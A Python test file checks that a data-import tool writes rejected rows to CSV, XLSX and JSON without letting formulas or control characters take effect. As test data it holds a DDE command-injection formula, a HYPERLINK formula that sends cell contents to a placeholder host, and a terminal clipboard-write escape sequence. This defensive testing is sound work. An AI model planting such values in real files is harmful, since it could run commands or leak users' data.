"""The file of rejected rows: the rows as they stood, and why they were refused."""

from __future__ import annotations

import datetime
from typing import TYPE_CHECKING, Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sdir_async.cli.inputs import open_reader, open_source
from sdir_async.cli.rejected import Rejected, write_rejected

if TYPE_CHECKING:
    from pathlib import Path


def _workbook(path: Path) -> None:
    book = openpyxl.Workbook()
    book.worksheets[0].append(("a", "b"))
    book.worksheets[0].append((1, "x"))
    book.worksheets[0].append((2, "y"))
    book.save(path)


def _reader(path: Path, content: bytes = b"") -> Any:
    if content:
        path.write_bytes(content)
    source = open_source(str(path))
    try:
        return open_reader(source)
    finally:
        source.close()


def _rows(path: Path) -> list[list[object]]:
    source = open_source(str(path))
    try:
        return [list(cells) for _, cells in open_reader(source).rows()]  # type: ignore[union-attr]
    finally:
        source.close()


texts = st.text(
    st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="\ufffe\uffff"), min_size=1
) | st.sampled_from(
    ["=cmd|' /C calc'!A0", "=1+1", "#N/A", "+1", "@x", "'x", "007", "_x001B_", "a\nb"]
)
cells_of_excel = st.one_of(
    texts,
    st.booleans(),
    st.integers(-(10**14), 10**14),
    st.floats(-1e9, 1e9).map(lambda number: round(number, 3)).filter(lambda n: not n.is_integer()),
    st.datetimes(datetime.datetime(1950, 1, 1), datetime.datetime(2090, 1, 1)).map(
        lambda moment: moment.replace(microsecond=0)
    ),
    st.times().map(lambda time: time.replace(microsecond=0)),
)


@settings(max_examples=20)
@given(st.lists(st.tuples(cells_of_excel, cells_of_excel), min_size=1, max_size=5))
def test_cells_of_a_workbook_keep_their_type(
    tmp_path: Path, rows: list[tuple[object, object]]
) -> None:
    """A text that looks like a formula stays a text, and is there when the file is read again."""
    given_, rejected = tmp_path / "in.xlsx", tmp_path / "out.xlsx"
    _workbook(given_)
    rejected.unlink(missing_ok=True)
    bad = [Rejected(line, row, (("a", "bad"),), None) for line, row in enumerate(rows, 2)]
    write_rejected(bad, _reader(given_), rejected)
    sheet = openpyxl.load_workbook(rejected).worksheets[0]
    written = [list(cells) for cells in sheet.iter_rows(min_row=2, values_only=True)]
    assert written == [[*row, line, "a: bad"] for line, row in enumerate(rows, 2)]


FORMULA = '=HYPERLINK("http://host/?"&A2)'


def test_a_reason_in_a_workbook_is_a_text(tmp_path: Path) -> None:
    """Whatever a server says, Excel computes nothing."""
    given_, rejected = tmp_path / "in.xlsx", tmp_path / "out.xlsx"
    _workbook(given_)
    write_rejected([Rejected(2, (FORMULA, "x"), (("", FORMULA),), None)], _reader(given_), rejected)
    sheet = openpyxl.load_workbook(rejected).worksheets[0]
    assert [cell.data_type for cell in sheet[2]] == ["s", "s", "n", "s"]
    assert sheet["A2"].quotePrefix
    assert sheet["D2"].value == FORMULA
    assert _rows(tmp_path / "out.xlsx")[0][:2] == [FORMULA, "x"]


@pytest.mark.parametrize("said", [FORMULA, "+1", "-1", "@x", "\tx"])
def test_a_reason_in_a_csv_file_is_a_text(tmp_path: Path, said: str) -> None:
    """An apostrophe before it tells a spreadsheet so; the cells of the input stay as they were."""
    reader = _reader(tmp_path / "in.csv", b"a;b\n1;x\n")
    write_rejected([Rejected(2, (said, "x"), (("", said),), None)], reader, tmp_path / "out.csv")
    assert _rows(tmp_path / "out.csv") == [[said, "x", "2", f"'{said}"]]


@pytest.mark.parametrize("format_", ["csv", "xlsx", "jsonl", "json"])
def test_a_control_character_in_a_reason_is_an_escape(tmp_path: Path, format_: str) -> None:
    """It ends no file, and no terminal that shows one obeys it."""
    given_, rejected = tmp_path / f"in.{format_}", tmp_path / f"out.{format_}"
    content = {"csv": b"a;b\n1;x\n", "jsonl": b'{"a":1}\n', "json": b'[{"a":1}]', "xlsx": b""}
    _workbook(tmp_path / "in.xlsx")
    reader = _reader(given_, content[format_])
    cells: Any = b'{"a":1}' if format_.startswith("json") else (1, "x")
    said = "\x1b]52;c;aGk=\x07 \x00 \ud800 \uffff"
    write_rejected([Rejected(1, cells, (("", said),), None)], reader, rejected)
    if format_ == "xlsx":
        assert _rows(rejected)[0][3] == r"\x1b]52;c;aGk=\x07 \x00 \ud800 \uffff"
    assert (
        not any(bytes([code]) in rejected.read_bytes() for code in (0, 7, 27)) or format_ == "xlsx"
    )


def test_the_name_of_a_sheet_stops_no_file(tmp_path: Path) -> None:
    """A workbook that another program made can have one that ours may not give."""
    given_ = tmp_path / "in.xlsx"
    _workbook(given_)
    reader = _reader(given_)
    reader.name = "a/b:" + "c" * 40
    write_rejected([Rejected(2, (1, "x"), (("", "bad"),), None)], reader, tmp_path / "out.xlsx")
    assert openpyxl.load_workbook(tmp_path / "out.xlsx").sheetnames == ["a_b_" + "c" * 27]
